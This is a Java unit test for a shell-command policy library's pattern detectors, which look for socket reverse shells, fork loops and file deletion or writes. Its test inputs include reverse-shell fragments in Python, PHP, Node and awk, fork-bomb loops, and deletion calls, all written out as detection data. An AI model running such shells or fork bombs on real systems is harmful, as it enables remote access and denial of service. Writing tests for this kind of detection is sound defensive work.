package dev.hotplex.policy;

import static org.assertj.core.api.Assertions.assertThat;

import dev.hotplex.policy.shell.Invocation;
import dev.hotplex.policy.shell.ShellAnalyzer;
import dev.hotplex.policy.shell.Word;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

class GuardedPatternTest {
  @Test
  void theGuardIgnoresCase() {
    GuardedPattern socket = GuardedPattern.of("(?i)socket\\.new", "Socket");
    assertThat(socket.find("x = TCPSocket.new")).isTrue();
    assertThat(socket.find("x = TCPSOCKET.NEW")).isTrue();
    assertThat(socket.find("sock et.new")).isFalse();
    assertThat(Detectors.FORK_LOOP.find("perl -e 'FORK WHILE FORK'")).isTrue();
  }

  @Test
  void textWithoutTheLiteralsIsNeverSearched() {
    GuardedPattern anything = GuardedPattern.of(".*", "needle");
    assertThat(anything.find("haystack")).isFalse();
    assertThat(anything.find("hayNEEDLEstack")).isTrue();
  }

  @Test
  void theGuardedPatternsAnswerLikeTheirBareRegexesOnEveryCorpusWord() throws IOException {
    List<String> texts = new ArrayList<>(List.of("s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0)",
        "$s=FSOCKOPEN('h',1);exec('/bin/sh')", "require('net').connect(1,'h',()=>{spawn('/bin/sh')})",
        "/inet/tcp/0/h/1 |& getline; system(x)", "while (1) { fork() }", "fork while fork", "fork()while 1",
        "fs.RMSYNC('/x')", "open('/etc/x', 'w')", "echo > /x", "require('rimraf')('/y')", "os.remove('/z')"));
    for (String file : List.of("benign.txt", "dangerous.txt")) {
      for (String command : PolicyCorpusTest.corpus(file)) {
        texts.add(command);
        for (Invocation invocation : ShellAnalyzer.analyze(command).invocations()) {
          invocation.words().stream().map(Word::text).forEach(texts::add);
        }
      }
    }
    int found = 0;
    for (GuardedPattern guarded : List.of(Detectors.SOCKET_SHELL, Detectors.FORK_LOOP,
        CommandEffects.DELETE_IN_CODE, CommandEffects.WRITE_IN_CODE)) {
      for (String text : texts) {
        boolean bare = guarded.pattern().matcher(text).find();
        assertThat(guarded.find(text)).as(guarded.pattern() + " in " + text).isEqualTo(bare);
        found += bare ? 1 : 0;
      }
    }
    assertThat(found).as("the texts exercise the patterns").isGreaterThan(10);
  }
}
